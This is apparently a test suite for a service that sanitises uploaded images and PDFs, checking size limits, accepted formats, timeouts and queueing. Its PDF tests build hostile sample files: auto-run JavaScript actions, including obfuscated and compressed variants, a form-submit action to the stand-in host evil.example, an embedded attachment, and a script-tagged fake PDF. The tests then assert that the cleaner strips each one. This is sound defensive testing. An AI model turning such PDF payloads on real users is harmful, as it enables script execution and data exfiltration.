import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { FileCleaner, type CleanerLimits } from '../../platform/files/file-cleaner';
import { FileRefused, type FileUse } from '../../platform/files/clean-file';
import { cleanPicture } from '../../platform/files/picture';
import { createLog } from '../../platform/log';
import { samplePdf } from '../support/sample-pdf';

const patient = { milliseconds: 60_000 };
const log = createLog('test', 'silent');
let cleaner = new FileCleaner(log, patient);
const withLimits = (limits: Partial<CleanerLimits>): FileCleaner => {
  cleaner.close();
  cleaner = new FileCleaner(log, limits);
  return cleaner;
};
afterAll(() => cleaner.close());

const faultOf = async (bytes: Buffer, use: FileUse = 'upload'): Promise<string> =>
  cleaner.clean(bytes, use).then(
    ({ type }) => type,
    (error: unknown) => (error instanceof FileRefused ? error.fault : String(error)),
  );
const picture = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#a33' } });
const noise = (width: number, height: number) =>
  sharp({
    create: { width, height, channels: 3, background: '#a33', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  });

test('what every phone takes by default fits, one row more does not', async () => {
  expect(await faultOf(await picture(4_096, 3_072).jpeg().toBuffer())).toBe('image/jpeg');
  expect(await faultOf(await picture(4_096, 3_073).jpeg().toBuffer())).toBe('pictureTooLarge');
});

test('each format is kept as what it is, upright, with a thumbnail', async () => {
  for (const format of ['jpeg', 'png', 'webp'] as const) {
    const sent = await picture(900, 600).withMetadata({ orientation: 6 }).toFormat(format).toBuffer();
    const { type, width, height, thumbnail } = await cleaner.clean(sent, 'upload');
    expect([type, width, height]).toEqual([`image/${format}`, 600, 900]);
    expect(await sharp(thumbnail).metadata()).toMatchObject({ format: 'webp', height: 320 });
  }
});

test('a picture with colours that show through, in grey or for print is a picture, too', async () => {
  const seen = {
    create: { width: 40, height: 30, channels: 4, background: { r: 9, g: 9, b: 9, alpha: 0.4 } },
  } as const;
  const clean = await cleaner.clean(await sharp(seen).png().toBuffer(), 'upload');
  expect((await sharp(clean.bytes).metadata()).hasAlpha).toBe(true);
  expect(await faultOf(await picture(40, 30).greyscale().jpeg().toBuffer())).toBe('image/jpeg');
  expect(await faultOf(await picture(40, 30).toColourspace('cmyk').jpeg().toBuffer())).toBe('image/jpeg');
});

test('L10 no decoder but those of JPEG, PNG and WebP sees a byte, whatever it is called', async () => {
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>');
  const others = [
    svg,
    await picture(9, 9).tiff().toBuffer(),
    await picture(9, 9).gif().toBuffer(),
    await picture(9, 9).avif().toBuffer(),
  ];
  for (const bytes of others) {
    expect(await faultOf(bytes)).toBe('fileNotTaken');
    await expect(cleanPicture(bytes, 'png', 'upload')).rejects.toMatchObject({ fault: 'fileNotTaken' });
  }
});

test('a drawing is a PNG of at most a megapixel', async () => {
  expect(await faultOf(await picture(560, 200).png().toBuffer(), 'drawing')).toBe('image/png');
  expect(await faultOf(await picture(1_100, 1_000).png().toBuffer(), 'drawing')).toBe('pictureTooLarge');
  expect(await faultOf(await picture(560, 200).webp().toBuffer(), 'drawing')).toBe('fileNotTaken');
  expect(await faultOf(samplePdf(), 'drawing')).toBe('fileNotTaken');
});

describe('M8 of a PDF only what can be seen is kept', () => {
  /** Every name that stands in the PDF outside its pictures. */
  const namesIn = (pdf: Buffer): ReadonlySet<string> =>
    new Set(
      pdf
        .toString('latin1')
        .replaceAll(/stream\n[\s\S]*?endstream/g, '')
        .match(/\/[^\s/<>[\]()]+/g),
    );
  const ours = new Set(
    '/Type /Catalog /Pages /Kids /Count /Page /Parent /MediaBox /Contents /Resources /XObject /P /Length /Subtype /Image /Width /Height /ColorSpace /DeviceRGB /BitsPerComponent /Filter /DCTDecode /Size /Root'.split(
      ' ',
    ),
  );

  test.each<readonly [string, Buffer]>([
    ['a script', samplePdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' })],
    ['a script whose name is escaped', samplePdf({ catalog: '/Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>' })],
    ['a form that is sent away', samplePdf({ catalog: '/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>' })],
    ['an attachment', samplePdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 3 0 R>>>>]>>>>' })],
  ])('not %s', async (_what, pdf) => {
    const { bytes } = await cleaner.clean(pdf, 'upload');
    expect([...namesIn(bytes)].filter((name) => !ours.has(name))).toEqual([]);
    expect(bytes.includes('evil')).toBe(false);
  });

  test('not what is packed away in a compressed object', async () => {
    const packed = deflateSync(Buffer.from('9 0 <</S/JavaScript/JS(app.alert(1))>>'));
    const stream = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed.toString('latin1')}\nendstream`;
    const whole = samplePdf({ catalog: '/OpenAction 9 0 R' }).toString('latin1');
    const pdf = Buffer.from(whole.replace('trailer', `8 0 obj\n${stream}\nendobj\ntrailer`), 'latin1');
    const { bytes } = await cleaner.clean(pdf, 'upload');
    expect(bytes.includes('ObjStm')).toBe(false);
  });

  test('the square that is drawn on it is there', async () => {
    const { bytes, thumbnail } = await cleaner.clean(samplePdf({ pages: 3 }), 'upload');
    expect(bytes.toString('latin1')).toContain('/Count 3');
    const { data, info } = await sharp(thumbnail).raw().toBuffer({ resolveWithObject: true });
    const at = (x: number, y: number) => [...data.subarray((y * info.width + x) * info.channels).subarray(0, 3)];
    const [red = 0, green = 255] = at(Math.floor(info.width * 0.4), Math.floor(info.height * 0.7));
    expect([red > 200, green < 60]).toEqual([true, true]);
    const [white = 0] = at(2, 2);
    expect(white).toBeGreaterThan(240);
  });

  test('the same scan is the same file', async () => {
    const [one, other] = [await cleaner.clean(samplePdf(), 'upload'), await cleaner.clean(samplePdf(), 'upload')];
    expect(one.bytes.equals(other.bytes)).toBe(true);
  });

  test('a page without end is drawn small, and too many pages are refused', async () => {
    const endless = Buffer.from(samplePdf().toString('latin1').replace('595 842', '99999999 99999999'));
    expect(await faultOf(endless)).toBe('application/pdf');
    expect(await faultOf(samplePdf({ pages: 21 }))).toBe('scanTooLong');
  });

  test('what is no PDF is not taken', async () => {
    for (const text of [
      '%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF',
      '%PDF-<script>alert(1)</script>%%EOF',
      '%PDF-',
    ])
      expect(await faultOf(Buffer.from(text))).toBe('fileNotTaken');
  });
});

test('H3 a file that takes too long is given up with its process, and the next one is taken', async () => {
  withLimits({ milliseconds: 500 });
  expect(await faultOf(await noise(4_096, 3_072).webp().toBuffer())).toBe('fileTakesTooLong');
  expect(await faultOf(await picture(4, 3).png().toBuffer())).toBe('image/png');
});

test('H3 one is decoded at a time, a few wait, the next is told to come back', async () => {
  withLimits({ ...patient, waiting: 1 });
  const bytes = await picture(900, 600).png().toBuffer();
  const faults = await Promise.all([faultOf(bytes), faultOf(bytes), faultOf(bytes)]);
  expect(faults).toEqual(['image/png', 'image/png', 'tooMany']);
});

test('a picture for papers is made once', async () => {
  withLimits(patient);
  const bytes = await picture(2_000, 1_000).jpeg().toBuffer();
  const printed = await cleaner.printable('a', bytes);
  expect(await sharp(printed).metadata()).toMatchObject({ format: 'png', height: 276 });
  // the second is not looked at: there is one of this name
  expect(await cleaner.printable('a', Buffer.alloc(0))).toBe(printed);
  await expect(cleaner.printable('b', Buffer.from('nothing'))).rejects.toMatchObject({ fault: 'fileNotTaken' });
});
